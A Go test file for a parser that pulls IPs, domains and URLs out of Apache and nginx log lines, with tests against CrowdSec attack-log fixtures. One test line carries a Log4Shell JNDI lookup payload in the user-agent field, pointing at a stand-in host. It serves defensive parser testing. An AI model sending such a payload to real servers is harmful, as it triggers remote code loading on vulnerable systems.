package weblog_test

import (
	"errors"
	"strings"
	"testing"

	"entente/watch/event"
	"entente/watch/format/formattest"
	"entente/watch/format/weblog"
)

func TestFormat(t *testing.T) { formattest.Run(t, weblog.Format()) }

func FuzzParse(f *testing.F) {
	formattest.Fuzz(f, weblog.Format(), `a b c [10/Oct/2026:13:55:36 -0700] ""`)
}

func BenchmarkParse(b *testing.B) { formattest.Bench(b, weblog.Format()) }

func observables(t *testing.T, line string) string {
	t.Helper()
	var ev event.Event
	if err := weblog.Format().New().Parse([]byte(line), &ev); err != nil {
		t.Fatalf("%q: %v", line, err)
	}
	var all []string
	for _, o := range ev.Observables {
		all = append(all, o.Field+" "+o.Value.Canonical)
	}
	return strings.Join(all, "|")
}

func TestObservables(t *testing.T) {
	const at = ` [10/Oct/2026:13:55:36 -0700] `
	for line, want := range map[string]string{
		`192.0.2.1 - -` + at + `"GET /a HTTP/1.1" 200 5`:                                   "source.ip 192.0.2.1",
		`2001:db8::1 - -` + at + `"GET /a HTTP/1.1" 200 5`:                                 "source.ip 2001:db8::1",
		`ns.mallory.example - -` + at + `"GET /a HTTP/1.1" 200 5`:                          "source.domain ns.mallory.example",
		`vote.example:443 192.0.2.1 - -` + at + `"GET /a HTTP/1.1" 200 5`:                  "source.ip 192.0.2.1|url.domain vote.example|url.full vote.example/a",
		`vote.example 192.0.2.1 - id -` + at + `"GET /a HTTP/1.1" 200 5`:                   "source.ip 192.0.2.1|url.domain vote.example|url.full vote.example/a",
		`203.0.113.9, 198.51.100.1 - -` + at + `"GET /a HTTP/1.1" 200 5`:                   "source.ip 203.0.113.9|network.forwarded_ip 198.51.100.1",
		`192.0.2.1 - -` + at + `"GET http://www.example:80/x HTTP/1.0" 400 5 "-" "-" "-"`:  "source.ip 192.0.2.1|url.original www.example/x|url.full www.example/x",
		`192.0.2.1 - -` + at + `"CONNECT www.example:25 HTTP/1.1" 400 5 "-" "-"`:           "source.ip 192.0.2.1|url.domain www.example",
		`192.0.2.1 - -` + at + `"GET / HTTP/1.1" 200 5 "http://r.example/q" "curl"`:        "source.ip 192.0.2.1|http.request.referrer r.example/q",
		`192.0.2.1 - -` + at + `"GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://203.0.113.7/a}"`: "source.ip 192.0.2.1|user_agent.original 203.0.113.7",
		`192.0.2.1 - -` + at + `"GET / HTTP/1.1" 200 - "-" "x" "203.0.113.7, 10.0.0.1"`:    "source.ip 192.0.2.1|web.extra 203.0.113.7|web.extra 10.0.0.1",
		`192.0.2.1 - -` + at + `"\x16\x03\x01" 400 157`:                                    "source.ip 192.0.2.1",
		`192.0.2.1 - -` + at + `"-" 408 -`:                                                 "source.ip 192.0.2.1",
		`192.0.2.1 - -` + at + `"GET /?u=\"http://b.example/\" HTTP/1.1" 200 1`:            "source.ip 192.0.2.1|url.original b.example/",
		// what a client wrote does not pass for another line, time or client
		`192.0.2.1 - a [01/Jan/2000:00:00:00 +0000] \x22GET` + at + `"GET / HTTP/1.1" 200 5`:                                                                           "source.ip 192.0.2.1",
		`192.0.2.1 - 198.51.100.9` + at + `"GET / HTTP/1.1" 200 5`:                                                                                                     "source.ip 192.0.2.1",
		`2026/10/10 09:23:53 [error] 7#7: *1 open() "/x, client: 198.51.100.9" failed, client: 192.0.2.1, server: _, request: "GET /x HTTP/1.1", host: "vote.example"`: "message 198.51.100.9|message 192.0.2.1|url.domain vote.example|url.full vote.example/x",
		`2026/10/10 09:23:53 [error] 7#7: *1 x, client: 192.0.2.1, server: _, request: "GET /x HTTP/1.1", host: "vote.example:8080"`:                                   "source.ip 192.0.2.1|message 192.0.2.1|url.domain vote.example|url.full vote.example:8080/x",
		`2026/10/10 09:23:53 [notice] 7#7: start worker processes`:                                                                                                     "",
		`[Sat Oct 10 09:23:53 2026] [error] [client 192.0.2.1] File does not exist: /x, referer: http://r.example/`:                                                    "source.ip 192.0.2.1|message r.example/",
		`[Sat Oct 10 09:23:53.123456 2026] [core:error] [pid 7:tid 8] [client 192.0.2.1:4022] AH1: [client 1.1.1.1] x`:                                                 "source.ip 192.0.2.1|message 1.1.1.1",
		`[Sat Oct 10 09:23:53.123456 2026] [ssl:warn] [client [2001:db8::1]:4022] x`:                                                                                   "source.ip 2001:db8::1",
		`[10/Oct/2026:09:23:53 +0000] vote.example 192.0.2.1 0.2 "GET /a HTTP/2.0" 200 5 4 - curl 203.0.113.7`:                                                         "source.ip 192.0.2.1|url.domain vote.example|url.full vote.example/a|web.extra 203.0.113.7",
		`[10/Oct/2026:09:23:53 +0000] - 404 200 - GET https vote.example "/a" [Client 192.0.2.1] [Length 2] [Gzip 1] [Sent-to 10.0.0.9] "curl" "https://r.example/"`:   "source.ip 192.0.2.1|url.domain vote.example|url.full vote.example/a|destination.address 10.0.0.9|http.request.referrer r.example/",
	} {
		if got := observables(t, line); got != want {
			t.Errorf("%s\n gave %s\n want %s", line, got, want)
		}
	}
}

func TestUnparsed(t *testing.T) {
	for _, line := range []string{
		"x", `192.0.2.1 - - "GET / HTTP/1.1" 200 5`, `192.0.2.1 - - [yesterday] "GET / HTTP/1.1" 200 5`,
		`192.0.2.1 - - [10/Oct/2026:13:55:36 -0700] "GET / HTTP/1.1`, `x [10/Oct/2026:13:55:36 -0700] "GET / HTTP/1.1"`,
		`[10/Oct/2026:13:55:36 -0700] "GET / HTTP/1.1"`, `[Sat Oct 10 09:23:53 2026] no level`, `2026/10/10 09:23:53 [loud] x`, `[error] x`,
		`{"remote_addr":"192.0.2.1"}`, `Nov  3 08:00:00 north sshd[7]: x`,
	} {
		var ev event.Event
		if err := weblog.Format().New().Parse([]byte(line), &ev); err == nil || errors.Is(err, event.ErrNoEvent) {
			t.Errorf("%q gave %v", line, err)
		}
	}
}

func TestRealLines(t *testing.T) {
	for _, path := range []string{
		"loghub/Apache_2k.log",
		"crowdsec-hub/apache-cve-2021-41773/apache-cve-2021-41773.log",
		"crowdsec-hub/apache2-http-sensitive-files/apache2-http-sensitive-files.log",
		"crowdsec-hub/apache_log4j2_cve-2021-44228/apache_log4j2_cve-2021-44228.log",
		"crowdsec-hub/bunkerweb-http-malformed/bunkerweb-http-malformed.log",
		"crowdsec-hub/bunkerweb-http-path-traversal/bunkerweb-http-path-traversal.log",
		"crowdsec-hub/bunkerweb-http-sensitive-files/bunkerweb-http-sensitive-files.log",
		"crowdsec-hub/http-cve-probing/http-cve-probing.log",
		"crowdsec-hub/http-dos-invalid-http-versions/http-dos-invalid-http-versions.log",
		"crowdsec-hub/http-technology-probing/http-technology-probing.log",
		"crowdsec-hub/http-wordpress-scan/http-wordpress-scan.log",
		"crowdsec-hub/http-wordpress_user-enum/http-wordpress_user-enum.log",
		"crowdsec-hub/litespeed-http-sensitive-files/litespeed-http-sensitive-files.log",
		"crowdsec-hub/modsecurity-nginx/modsecurity-nginx.log",
		"crowdsec-hub/nginx-http-generic-bf/nginx-http-generic-bf.log",
		"crowdsec-hub/nginx-http-malformed/nginx_http-logs.log",
		"crowdsec-hub/nginx-http-open-proxy/nginx-http-open-proxy.log",
		"crowdsec-hub/nginx-http-path-traversal/nginx-http-path-traversal.log",
		"crowdsec-hub/nginx-http-w00twoot/nginx-http-w00twoot.log",
		"crowdsec-hub/nginx-mail-logs/nginx-mail-logs.log",
		"crowdsec-hub/nginx-proxy-manager-malformed/nginx_http-logs.log",
		"crowdsec-hub/nginx_http-catch-npm/nginx_http-catch-npm.log",
	} {
		t.Run(path, func(t *testing.T) {
			clients := 0
			counts := formattest.Read(t, weblog.Format(), formattest.SharedData(t, "logs/"+path), func(ev *event.Event) {
				if ev.Get("source.ip") != "" {
					clients++
				}
			})
			rate := 100 * float64(counts.Events) / float64(counts.Events+counts.Unparsed)
			t.Logf("%.2f %% parsed, %d with a client; %+v", rate, clients, counts)
			if rate <= 99 || clients == 0 {
				t.Errorf("%.2f %% parsed; unread %q", rate, counts.Unread)
			}
		})
	}
}

// TestAgreesWithCrowdSec compares with what another program's tests expect of the same lines.
func TestAgreesWithCrowdSec(t *testing.T) {
	for _, c := range []struct{ dir, log string }{
		{"bunkerweb-http-malformed", "bunkerweb-http-malformed.log"},
		{"nginx-http-malformed", "nginx_http-logs.log"},
		{"nginx-mail-logs", "nginx-mail-logs.log"},
		{"nginx-proxy-manager-malformed", "nginx_http-logs.log"},
		{"nginx_http-catch-npm", "nginx_http-catch-npm.log"},
	} {
		t.Run(c.dir, func(t *testing.T) { formattest.Agrees(t, weblog.Format(), c.dir, c.log, "source_ip", "source.ip") })
	}
}
